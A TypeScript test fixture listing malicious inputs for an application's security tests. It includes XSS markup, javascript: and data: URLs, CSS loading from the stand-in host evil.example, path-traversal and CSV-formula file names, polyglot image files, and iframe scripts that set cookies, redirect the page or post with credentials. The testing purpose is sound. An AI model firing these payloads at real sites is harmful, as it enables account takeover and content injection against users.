/**
 * Malicious input. Each entry would open a dialog, set `window.pwned` or send a request to evil.example if it worked;
 * journeys check for all three.
 */

/** Text that would become markup or script: for names, titles, texts, alternative texts, tags and notes. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '</script><script>window.pwned=1</script>',
  '<ScRiPt>window.pwned=1</sCrIpT>',
  '<<script>window.pwned=1//<</script>',
  '<img src=x onerror=window.pwned=1>',
  '<img src="https://evil.example/p.gif">',
  '"><img src=x onerror=window.pwned=1>',
  "'><img src=x onerror=window.pwned=1>",
  '" onmouseover="window.pwned=1" x="',
  "' onfocus='window.pwned=1' autofocus='",
  '` onload=`window.pwned=1`',
  '<svg onload=window.pwned=1>',
  '<svg/onload=window.pwned=1//',
  '<svg><script>window.pwned=1</script></svg>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=1>',
  '<iframe src="javascript:window.pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<object data="javascript:window.pwned=1">',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '</style><script>window.pwned=1</script><style>',
  '</title><script>window.pwned=1</script>',
  '</textarea><script>window.pwned=1</script>',
  '</noscript><img src=x onerror=window.pwned=1>',
  '--><script>window.pwned=1</script><!--',
  ']]><script>window.pwned=1</script>',
  '<details open ontoggle=window.pwned=1>',
  '<video><source onerror=window.pwned=1></video>',
  '<body onload=window.pwned=1>',
  '<form action=https://evil.example><button>Go</button></form>',
  '<a href="javascript:window.pwned=1">x</a>',
  '<input autofocus onfocus=window.pwned=1>',
  '<template><script>window.pwned=1</script></template>',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '&#60;script&#62;window.pwned=1&#60;/script&#62;',
  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
  '\u202e<script>window.pwned=1</script>',
  '\u2028window.pwned=1\u2029//',
  '＜script＞window.pwned=1＜/script＞',
  '+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-',
  '","x":"</script><script>window.pwned=1</script>',
  '*/window.pwned=1/*',
  '{word}',
  '__proto__',
] as const;

/** Addresses that lead to no page: each is refused with a sentence. */
export const ADDRESSES = [
  'javascript:window.pwned=1',
  'JaVaScRiPt:window.pwned=1',
  ' javascript:window.pwned=1',
  'java\tscript:window.pwned=1',
  'java\nscript:window.pwned=1',
  'java\rscript:window.pwned=1',
  '\u0001javascript:window.pwned=1',
  'javascript\u0000:window.pwned=1',
  'javascript://example.com/%0Awindow.pwned=1',
  'javascript&colon;window.pwned=1',
  'javascript&#58;window.pwned=1',
  'javascript%3Awindow.pwned=1',
  'javascript：window.pwned=1',
  'data:text/html,<script>window.pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg onload=window.pwned=1>',
  'vbscript:msgbox(1)',
  'livescript:window.pwned=1',
  'mocha:window.pwned=1',
  'blob:https://example.com/0b0e6f3e-6f35-4c5e-9a53-0d3a4c1f2b11',
  'filesystem:https://example.com/temporary/x.html',
  'file:///etc/passwd',
  'ftp://evil.example/x',
  'view-source:https://example.com',
  'about:blank',
  'chrome://settings',
  'intent://evil.example#Intent;scheme=http;end',
  'ws://evil.example',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example',
  'https:evil.example',
  'https:/evil.example',
  'https://',
  'https://a b.example',
  'https://user:password@evil.example',
  'https://example.com@evil.example',
  'mailto:a@b.example\r\nBcc: c@d.example',
  'tel:1;window.pwned=1',
  'feed:javascript:window.pwned=1',
  'jar:https://evil.example!/x',
] as const;

/** URLs that would break out of the attribute they are printed in. */
export const CROOKED_PAGES = [
  'https://example.com/?q="><script>window.pwned=1</script>',
  "https://example.com/'onmouseover='window.pwned=1",
  'https://example.com/#</a><img/src=x/onerror=window.pwned=1>',
  'https://example.com/&quot;onfocus=window.pwned=1',
  'https://example.com/`onload=`window.pwned=1',
] as const;

/** CSS that would load from another host, or cover what is not the creator's. */
export const STYLES = [
  '@import url(https://evil.example/x.css);',
  '@import "https://evil.example/x.css";',
  '@im\\port url(https://evil.example/x.css);',
  '@font-face{font-family:x;src:url(https://evil.example/x.woff2)}',
  'p{background:url(https://evil.example/x)}',
  'p{background:url(//evil.example/x)}',
  'p{background:\\75rl(https://evil.example/x)}',
  'p{background-image:image-set("https://evil.example/x" 1x)}',
  'p{background:url("javascript:window.pwned=1")}',
  'p{list-style:url(data:text/html,x)}',
  'p{cursor:url(https://evil.example/x),auto}',
  'p{width:expression(window.pwned=1)}',
  'p{behavior:url(#default#x)}',
  'p{-moz-binding:url(https://evil.example/x.xml#a)}',
  '</style><script>window.pwned=1</script>',
  'p{content:"</style><script>window.pwned=1</script>"}',
  '} body{display:none} .x{',
  'input[value^="a"]{background:url(https://evil.example/a)}',
  '@namespace svg url(https://evil.example);',
  '@charset "utf-7";',
  'p{--x:url(https://evil.example/x);background:var(--x)}',
  '/* </style><script>window.pwned=1</script> */',
] as const;

/** Invalid theme colors. */
export const COLORS = [
  'red}body{display:none}',
  'url(https://evil.example/x)',
  '#fff;background:url(https://evil.example)',
  'expression(window.pwned=1)',
  'var(--x);}*{color:red',
  '#12345g',
  '</style><script>',
] as const;

/** File names that a malicious client sends. */
export const FILE_NAMES = [
  '<img src=x onerror=window.pwned=1>.pdf',
  '"><script>window.pwned=1<.script>.pdf',
  '../../etc/passwd',
  '..\\..\\windows\\x.exe',
  'invoice\u202efdp.exe',
  "a'; filename*=UTF-8''x.html",
  'a.html',
  'a.svg',
  'CON.txt',
  '=cmd|calc!A1.csv',
] as const;

const script = (text: string, marks: object[] = []) => ({ type: 'text', text, marks });
const paragraph = (...content: object[]) => ({ type: 'doc', content: [{ type: 'paragraph', content }] });

/** Documents that our editor did not create. */
export const DOCUMENTS = [
  paragraph(script('<script>window.pwned=1</script>')),
  paragraph(script('x', [{ type: 'link', attrs: { href: 'javascript:window.pwned=1' } }])),
  paragraph(script('x', [{ type: 'link', attrs: { href: 'java\nscript:window.pwned=1' } }])),
  paragraph(script('x', [{ type: 'link', attrs: { href: 'data:text/html,<script>1</script>' } }])),
  paragraph(script('x', [{ type: 'link', attrs: { href: 'https://a.example', onclick: 'window.pwned=1' } }])),
  paragraph(script('x', [{ type: 'link', attrs: { href: 'https://a.example', style: 'position:fixed' } }])),
  paragraph(script('x', [{ type: 'textStyle', attrs: { color: 'red;background:url(https://evil.example)' } }])),
  paragraph(script('x', [{ type: 'constructor' }])),
  paragraph({ type: 'image', attrs: { src: 'x', onerror: 'window.pwned=1' } }),
  paragraph({ type: 'iframe', attrs: { src: 'https://evil.example' } }),
  paragraph({ type: 'script', content: [script('window.pwned=1')] }),
  { type: 'doc', content: [{ type: 'heading', attrs: { level: '2 onclick=window.pwned=1' }, content: [script('x')] }] },
  { type: 'doc', content: [{ type: 'orderedList', attrs: { start: '1"onclick="window.pwned=1' }, content: [] }] },
  { type: 'doc', content: [{ type: 'paragraph', attrs: { style: 'position:fixed', onclick: 'window.pwned=1' } }] },
  { type: '__proto__', content: [] },
] as const;

/** Files that are not images, whatever their name. */
export const FALSE_PICTURES = [
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"/>',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=1</script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><script>window.pwned=1</script></foreignObject></svg>',
  '<!doctype html><script>window.pwned=1</script>',
  'GIF89a/*<script>window.pwned=1</script>*/=1;',
  '%PDF-1.7 <script>window.pwned=1</script>',
  '\u0000\u0000\u0000<script>window.pwned=1</script>',
] as const;

/** Custom HTML that tries to reach the page around it and its visitor. */
export const FRAMES = [
  '<script>parent.pwned=1</script>',
  '<script>top.document.body.innerHTML="gone"</script>',
  '<script>top.location="https://evil.example"</script>',
  '<script>parent.document.cookie="stoa_session=x"</script>',
  '<script>fetch("/functions/getUser",{method:"POST",credentials:"include"}).then(()=>parent.postMessage("in","*"),()=>0)</script>',
  '<script>try{localStorage.x=1}catch{}</script>',
  '<script>alert(1);confirm(1);prompt(1)</script>',
  '<script>open("https://evil.example")</script>',
  '</iframe><script>window.pwned=1</script>',
  '<a href="javascript:top.pwned=1" target="_top">x</a><script>document.links[0].click()</script>',
  '<form action="/functions/signOut" method="post" target="_top"></form><script>document.forms[0].submit()</script>',
  '<base href="https://evil.example/" target="_top">',
] as const;
